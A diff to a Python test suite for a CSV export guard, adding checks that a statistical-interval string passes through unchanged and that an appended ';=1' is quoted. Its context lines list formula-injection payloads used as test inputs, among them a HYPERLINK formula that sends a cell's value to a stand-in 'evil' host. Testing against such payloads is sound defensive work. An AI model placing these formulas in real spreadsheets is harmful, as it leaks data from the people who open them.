@@ -222,9 +222,12 @@ def test_a_table_as_it_was_written(tmp_path):
 
 
 FORMULAS = ('=HYPERLINK("http://evil/?"&A1)', "+1+1", "-1+cmd", "@SUM(1)", "\t=1", "'=1", "a;=1", "x\n-1+1", "--", "+")
+INTERVAL = "-0.300 [-1.000, 6.8e-1], n=20: at chance"
 NUMBERS = ("+0.12", "-5.0", "−.10", "-1e-5", "-", "-.5", "+3", "-2.", "0", "1e10", "−5", "–", "-0.25E+3")
 EITHER = st.one_of(
-    st.text(), st.text("=+-@;\t\r\n'\"\uff1d1.e"), st.sampled_from((*FORMULAS, *NUMBERS, *campaigns.FORMULAS))
+    st.text(),
+    st.text("=+-@;\t\r\n'\"\uff1d1.e"),
+    st.sampled_from((*FORMULAS, *NUMBERS, *campaigns.FORMULAS, INTERVAL, f"{INTERVAL};=1")),
 )
 
 
@@ -241,6 +244,9 @@ def test_no_spreadsheet_runs_a_cell_of_a_table(tmp_path, text):
 
 @pytest.mark.parametrize("number", NUMBERS)
 def test_a_number_with_a_sign_stays_a_number(tmp_path, number):
+    assert guard_cell(INTERVAL) == INTERVAL
+    assert guard_cell(f"{INTERVAL};=1") == f"{INTERVAL};'=1"
+    assert guard_cell("-0.3 [=1, 2]")[0] == guard_cell("-0.3 +1")[0] == "'"
     tables.write_lines(tmp_path / "a.csv", ("a", "b"), [{"a": number, "b": -1.5}])
     assert (tmp_path / "a.csv").read_bytes().decode() == f"a,b\r\n{number},-1.5\r\n"
     tables.write_csv(tmp_path / "b.csv", pl.DataFrame({"a": [number], "b": [-1.5]}))
